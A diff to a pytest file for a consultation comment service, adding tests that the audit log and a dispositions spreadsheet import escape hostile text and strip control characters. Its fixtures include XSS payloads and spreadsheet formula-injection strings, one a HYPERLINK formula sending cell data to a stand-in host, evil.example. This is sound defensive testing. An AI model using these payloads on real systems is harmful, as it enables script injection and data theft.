@@ -16,6 +16,7 @@ import unicodedata
 from datetime import timedelta
 from email import message_from_bytes, policy
 from pathlib import Path
+from types import SimpleNamespace
 from urllib.parse import quote, urlencode
 
 import pytest
@@ -29,10 +30,15 @@ from commentsvc.core.clock import now_utc
 from commentsvc.drafts.models import Draft, DraftImport
 from commentsvc.responses.forms import MAX_COMMENT
 from commentsvc.responses.models import Comment, Reply
+from commentsvc.synthesis.dispositions_xlsx import SHEET_TITLE
 from commentsvc.synthesis.models import Disposition
 from tests.web.drafts_helpers import SAMPLES, import_id_of, upload
 from tests.web.synthesis_helpers import disposition_of
 from tests.web.test_consultations import form_data
+from tests.web.test_dispositions_xlsx import _confirm as _confirm_sheet
+from tests.web.test_dispositions_xlsx import _export as _export_sheet
+from tests.web.test_dispositions_xlsx import _set as _set_row
+from tests.web.test_dispositions_xlsx import _upload as _upload_sheet
 from tests.web.test_paper_replies import record
 from tests.web.test_responses import clauses_of, comment, url
 from tests.web.test_responses_submit import reply_of, submit
@@ -42,6 +48,7 @@ SCRIPT = "<script>alert(1)</script>"
 ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;"
 PAYLOAD = f'"><{SCRIPT[1:]}<img src=x onerror=alert(2)>'  # breaks out of an attribute, then a tag of its own
 CONTROLS = "\x00\x01\x07\x08\x1b\x7f\x9b"  # NUL, SOH, BEL, BS, ESC, DEL, CSI (C1)
+CONTROLS_XML = "\x7f\x9b"  # the ones XML 1.0, hence a spreadsheet, can hold
 FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "+1+1", "-2+3", "@SUM(1,1)")
 
 
@@ -151,6 +158,15 @@ def test_agency_name_is_escaped_from_the_form_and_the_directory(client, factory,
     assert refused.status_code == 400
     page = refused.get_data(as_text=True)
     assert SCRIPT.upper() not in page and "&lt;SCRIPT&gt;" in page  # the message quotes the code, escaped
+
+
+def test_audit_log_escapes_agency_names(app, client, factory, login, db):
+    agency = factory.agency(name=f"Bộ {PAYLOAD}", short_name=f"Bộ {PAYLOAD}")
+    consultation = factory.consultation(agencies=[agency])
+    member = login(factory.member(agency), the_client=app.test_client())
+    assert comment(member, consultation, None, "Ý kiến").status_code == 303  # audited with the agency
+    login(factory.admin())
+    assert_escaped(client.get("/admin/audit").get_data(as_text=True))
 
 
 def test_paper_reply_texts_are_escaped(client, factory, login, db):
@@ -306,6 +322,22 @@ def test_pdf_export_prints_the_text(client, hostile, tmp_path):
     flat = " ".join(text.split())
     assert SCRIPT in flat and "onerror=alert(2)" in flat  # printed as text, not interpreted
     assert "HYPERLINK" in flat and "@SUM(1,1)" in flat and "có ký tự điều khiển" in flat
+
+
+def test_dispositions_sheet_text_is_escaped_and_cleaned(client, hostile, db):
+    """Text that comes back in the dispositions sheet: shown escaped on the preview, stored without controls
+    (Excel writes them as XML character references, which openpyxl reads back)."""
+    scene = SimpleNamespace(consultation=hostile)  # what the dispositions sheet helpers read
+    workbook = _export_sheet(client, scene)
+    group = disposition_of(db, FORMULAS[1])
+    _set_row(workbook[SHEET_TITLE], group.id, "Tiếp thu", f"Đã sửa{CONTROLS_XML} theo ý kiến {PAYLOAD}")
+    preview = _upload_sheet(client, scene, workbook)
+    assert preview.status_code == 200
+    page = preview.get_data(as_text=True)
+    assert_escaped(page, where="import preview")
+    assert _confirm_sheet(client, scene, page).status_code == 302
+    db.session.expire_all()
+    assert db.session.get(Disposition, group.id).explanation == f"Đã sửa theo ý kiến {PAYLOAD}"
 
 
 # --- control characters never reach the database -----------------------------------------------------------------
